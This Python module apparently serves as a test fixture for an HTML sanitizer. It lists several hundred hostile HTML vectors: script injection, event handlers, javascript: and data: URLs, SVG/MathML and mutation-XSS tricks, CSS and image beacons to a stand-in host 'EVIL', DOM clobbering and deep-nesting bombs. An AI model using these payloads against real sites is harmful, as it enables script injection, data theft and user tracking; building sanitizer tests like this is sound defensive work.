"""Hostile HTML of our own making. `HIT` becomes a call that the watcher hears, `EVIL` a host that must never be asked.

Sorted by what they try. Each stands between two words that must survive it.
"""

from __future__ import annotations

import base64

_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="HIT"><script>HIT</script></svg>').decode()
_PAGE = base64.b64encode(b"<script>HIT</script>").decode()
_DEEP = 3_000

SCRIPTS = [
    "<script>HIT</script>", "<SCRIPT>HIT</SCRIPT>", "<script/x>HIT</script>", "<script\n>HIT</script\n>",
    "<script src=https://EVIL/a.js></script>", "<script src=//EVIL/a.js></script>",
    "<script type=module>HIT</script>", "<script type=module src=https://EVIL/m.js></script>",
    "<scr<script>ipt>HIT</scr</script>ipt>", "<<script>HIT//<</script>", "<script>HIT",
    "<script><!--\nHIT\n//--></script>", "</p><script>HIT</script>", "<script defer>HIT</script x>",
    "<script nonce=x>HIT</script>", "<script>/*</script><script>*/HIT</script>",
    "<noscript></noscript><script>HIT</script>", "<!--<script>--><script>HIT</script>",
    "<script\0>HIT</script>", "<s\0cript>HIT</s\0cript>", "<script>HIT</script >",
    "<link rel=modulepreload href=https://EVIL/p.js>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://EVIL/s\"]}]}</script>",
]  # fmt: skip
HANDLERS = [
    "<img src=x onerror=HIT>", "<img src=x oNeRrOr=HIT>", "<img src=x\nonerror\n=\n'HIT'>", "<img/src=x/onerror=HIT>",
    "<img src='x'onerror='HIT'>", "<img src=x onerror=HIT//", "<img src onerror=HIT src=y>",
    "<body onload=HIT>", "<body onpageshow=HIT>", "<body onfocus=HIT tabindex=1 autofocus>",
    "<p onanimationstart=HIT style='animation:a 1ms'>parola</p><style>@keyframes a{}</style>",
    "<p onmouseover=HIT style='font-size:900px'>parola</p>", "<input autofocus onfocus=HIT>",
    "<select autofocus onfocus=HIT></select>", "<textarea autofocus onfocus=HIT></textarea>",
    "<details open ontoggle=HIT><summary>s</summary>parola</details>", "<video onerror=HIT><source src=x></video>",
    "<audio src=x onerror=HIT></audio>", "<video poster=x onloadstart=HIT src=data:,></video>",
    "<marquee onstart=HIT>parola</marquee>", "<img src=x onerror = \u0022HIT\u0022>", "<img src=\"x\" onerror=\"&#x48;IT\">",
    "<a href=x onfocus=HIT autofocus tabindex=0>parola</a>", "<div contenteditable autofocus onfocus=HIT>parola</div>",
    "<button popovertarget=p onfocus=HIT autofocus>b</button><div id=p popover onbeforetoggle=HIT>parola</div>",
    "<dialog open oncancel=HIT onfocusin=HIT><input autofocus></dialog>", "<input type=image src=x onerror=HIT>",
    "<object data=x onerror=HIT></object>", "<iframe onload=HIT></iframe>", "<embed src=x onerror=HIT>",
    "<style onload=HIT></style>", "<link rel=stylesheet href=data:text/css, onload=HIT>", "<track onerror=HIT src=x>",
    "<xss onfocus=HIT tabindex=0 autofocus>parola</xss>", "<table background=x onerror=HIT><tr><td>parola</table>",
]  # fmt: skip
ADDRESSES = [
    "<a href=javascript:HIT autofocus>parola</a>", "<a href=' javascript:HIT'>parola</a>",
    "<a href='java\nscript:HIT'>parola</a>", "<a href='java&Tab;script:HIT'>parola</a>",
    "<a href='&#106avascript:HIT'>parola</a>", "<a href='\x01javascript:HIT'>parola</a>",
    "<a href=JaVaScRiPt:HIT>parola</a>", "<a href=vbscript:HIT>parola</a>", f"<a href=data:text/html;base64,{_PAGE}>parola</a>",
    "<a href=//EVIL/x ping=https://EVIL/ping>parola</a>", "<area href=javascript:HIT>", "<img src=javascript:HIT>",
    "<img src='data:text/html,<script>HIT</script>'>", f"<img src=data:image/svg+xml;base64,{_SVG}>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>\">",
    f"<iframe src=data:text/html;base64,{_PAGE}></iframe>", "<iframe src=javascript:HIT></iframe>",
    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>", "<iframe src=https://EVIL/f></iframe>",
    "<frameset><frame src=javascript:HIT></frameset>", "<object data=javascript:HIT></object>",
    f"<object data=data:text/html;base64,{_PAGE}></object>", f"<embed src=data:image/svg+xml;base64,{_SVG}>",
    "<base href=https://EVIL/><img src=a.gif>", "<base href=javascript:/><a href=/HIT//>parola</a>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>", "<meta http-equiv=refresh content='0;url=https://EVIL/r'>",
    "<meta http-equiv=set-cookie content=a=b>", "<form action=javascript:HIT><input type=submit id=x></form>",
    "<form action=https://EVIL/f><button autofocus>Entra</button></form>", "<button formaction=javascript:HIT>b</button>",
    "<isindex action=javascript:HIT type=image>", "<math href=javascript:HIT>parola</math>",
    "<blockquote cite=javascript:HIT>parola</blockquote>", "<a href=blob:https://EVIL/1>parola</a>",
]  # fmt: skip
FOREIGN = [
    "<svg onload=HIT></svg>", "<svg><script>HIT</script></svg>", "<svg><script href=https://EVIL/s.js /></svg>",
    "<svg><a xlink:href=javascript:HIT><text>parola</text></a></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>", "<svg><set onbegin=HIT attributeName=x to=1></svg>",
    "<svg><a id=a><text>parola</text></a><animate href=#a attributeName=href values=javascript:HIT /></svg>",
    "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>", "<svg><image href=https://EVIL/i.png /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>HIT</script></svg>#x'/></svg>",
    "<svg><style>@import 'https://EVIL/s.css';</style></svg>", "<svg><style><img src=x onerror=HIT></style></svg>",
    "<svg><feImage href=https://EVIL/fe /></svg>", "<svg></p><style><a id='</style><img src=x onerror=HIT>'></svg>",
    "<svg><desc><img src=x onerror=HIT></desc></svg>", "<svg><title><script>HIT</script></title></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:HIT>parola</maction></math>",
    "<math><mi xlink:href='data:x,<script>HIT</script>'>parola</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=HIT></annotation-xml></math>",
    "<svg><![CDATA[><img src=x onerror=HIT>]]></svg>", "<math><![CDATA[</math><img src=x onerror=HIT>]]>",
]  # fmt: skip
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=HIT&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
    "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=HIT>'>",
    "<svg><p><style><g title='</style><img src=x onerror=HIT>'>", "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    "<noscript><style></noscript><img src=x onerror=HIT></style>", "<template><script>HIT</script></template>",
    "<template><img src=x onerror=HIT></template>", "<template shadowrootmode=open><img src=x onerror=HIT></template>",
    "<textarea><p title='</textarea><img src=x onerror=HIT>'>", "<title><p id='</title><img src=x onerror=HIT>'>",
    "<xmp><p id='</xmp><img src=x onerror=HIT>'>", "<noembed><p id='</noembed><img src=x onerror=HIT>'>",
    "<noframes><p id='</noframes><img src=x onerror=HIT>'>", "<iframe><p id='</iframe><img src=x onerror=HIT>'>",
    "<plaintext><img src=x onerror=HIT>", "<!--><img src=x onerror=HIT>-->", "<!--!><img src=x onerror=HIT>-->",
    "<!---><img src=x onerror=HIT>", "<!-- --!><img src=x onerror=HIT> -->", "<![if IE]><img src=x onerror=HIT><![endif]>",
    "<!--[if gte IE 4]><script>HIT</script><![endif]-->", "<?xml ?><img src=x onerror=HIT>", "<?import namespace=t implementation='#x'?><t:x onbegin=HIT>",
    "</ p onload=HIT><img src=x onerror=HIT>", "<a title='&quot;><img src=x onerror=HIT>'>parola</a>",
    "<p title=\"`><img src=x onerror=HIT>\">parola</p>", "<img alt='``onerror=HIT' src=x>",
    "<select><template><style></select><img src=x onerror=HIT></style></template>",
    "<table><td><svg><desc><td><img src=x onerror=HIT></desc></svg></table>", "<b><table><i></b><img src=x onerror=HIT></table>",
    "<p id='&lt;img src=x onerror=HIT&gt;' class='&lt;img src=x onerror=HIT&gt;'>parola</p>",
    "&lt;img src=x onerror=HIT&gt;", "&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;", "+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "\u00bcscript\u00beHIT\u00bc/script\u00be", "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
]  # fmt: skip
STYLES = [
    "<style>@import url(https://EVIL/a.css);</style>", "<style>body{background:url(https://EVIL/b)}</style>",
    "<style>@font-face{font-family:x;src:url(https://EVIL/f.woff)} *{font-family:x}</style>",
    "<p style='background:url(https://EVIL/c)'>parola</p>", "<p style=\"background:\\75 rl('https://EVIL/d')\">parola</p>",
    "<p style='background-image:image-set(\"https://EVIL/e\" 1x)'>parola</p>", "<p style='list-style:url(https://EVIL/l)'>parola</p>",
    "<p style='cursor:url(https://EVIL/k),auto'>parola</p>", "<p style='border-image:url(https://EVIL/bi)'>parola</p>",
    "<p style='content:url(https://EVIL/co)'>parola</p>", "<p style='mask:url(https://EVIL/ma)'>parola</p>",
    "<p style='filter:url(https://EVIL/fi)'>parola</p>", "<p style='width:expression(HIT)'>parola</p>",
    "<p style='behavior:url(https://EVIL/h.htc)'>parola</p>", "<p style='-moz-binding:url(https://EVIL/x)'>parola</p>",
    "<p style='color:red;}</style><img src=x onerror=HIT>'>parola</p>", "<p style='font-family:&quot;;background:url(https://EVIL/q)&quot;'>parola</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>parola</p>", "<p style='display:none'>parola</p>",
    "<table background=https://EVIL/t><tr><td background=https://EVIL/td>parola</table>", "<body background=https://EVIL/bg>",
    "<link rel=stylesheet href=https://EVIL/s.css>", "<style>p{color:red}</style><style><!--</style><img src=x onerror=HIT>-->",
    "<p style='--x:url(https://EVIL/v);background:var(--x)'>parola</p>", "<p style='width:calc(1px);background:/**/url(https://EVIL/cm)'>parola</p>",
]  # fmt: skip
REMOTE = [
    "<img src=https://EVIL/p.gif width=1 height=1>", "<img src=//EVIL/p.gif>", "<img src=\\\\EVIL\\p.gif>", "<img src=ht\ntps://EVIL/n.gif>",
    "<img srcset='https://EVIL/1 1x, https://EVIL/2 2x'>", "<picture><source srcset=https://EVIL/s><img></picture>",
    "<img src=https://EVIL/l loading=eager fetchpriority=high>", "<img lowsrc=https://EVIL/lo dynsrc=https://EVIL/dy>",
    "<video src=https://EVIL/v autoplay poster=https://EVIL/po></video>", "<audio src=https://EVIL/a autoplay></audio>",
    "<video><track default kind=captions src=https://EVIL/tr></video>", "<input type=image src=https://EVIL/in>",
    "<link rel=prefetch href=https://EVIL/pf>", "<link rel=dns-prefetch href=//EVIL>", "<link rel=preconnect href=https://EVIL>",
    "<link rel=preload as=image href=https://EVIL/pl>", "<link rel=icon href=https://EVIL/fav.ico>", "<link rel=manifest href=https://EVIL/m.json>",
    "<html manifest=https://EVIL/app.cache>", "<object data=https://EVIL/o></object>", "<embed src=https://EVIL/em>",
    "<applet code=X archive=https://EVIL/ap.jar></applet>", "<bgsound src=https://EVIL/bgs>", "<image src=https://EVIL/image>",
    "<portal src=https://EVIL/portal></portal>", "<fencedframe src=https://EVIL/ff></fencedframe>",
]  # fmt: skip
CLOBBERING = [
    "<img name=cookie><img id=getElementById><form id=body name=documentElement><input name=attributes></form>",
    "<a id=hit href=x>parola</a><a id=hit name=call href=y>parola</a>", "<form id=location><input name=href value=javascript:HIT></form>",
    "<iframe name=hit srcdoc='<a id=x>'></iframe>", "<object name=document></object>", "<img name=parent><img name=top>",
]  # fmt: skip
BOMBS = [
    "<div>" * _DEEP + "<img src=x onerror=HIT>" + "</div>" * _DEEP, "<b><i>" * 400 + "<script>HIT</script>",
    "<table><tr><td>" * 300 + "<img src=x onerror=HIT>", "<font color=red>" * 600 + "parola", "<img " + "a=1 " * 3_000 + "src=x onerror=HIT>",
    "<a href='" + "x" * 60_000 + "' onfocus=HIT autofocus>parola</a>",
]  # fmt: skip

ALL = [*SCRIPTS, *HANDLERS, *ADDRESSES, *FOREIGN, *MUTATIONS, *STYLES, *REMOTE, *CLOBBERING, *BOMBS]

#: Elements that never end: every browser reads the rest as their content, which is dropped.
SWALLOWING = {
    "<script>HIT",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
}


def written(number: int, evil: str = "evil.example") -> str:
    """Vector `number` between its two words, with its own call and its own host."""
    body = ALL[number]
    for coded in (_SVG, _PAGE):
        plain = base64.b64decode(coded).replace(b"HIT", f"hit({number})".encode())
        body = body.replace(coded, base64.b64encode(plain).decode())
    body = body.replace("&#x48;IT", f"&#x68;it({number})").replace("HIT", f"hit({number})")
    return f"<p>prima{number}x</p>{body.replace('EVIL', evil)}<p>dopo{number}x</p>"
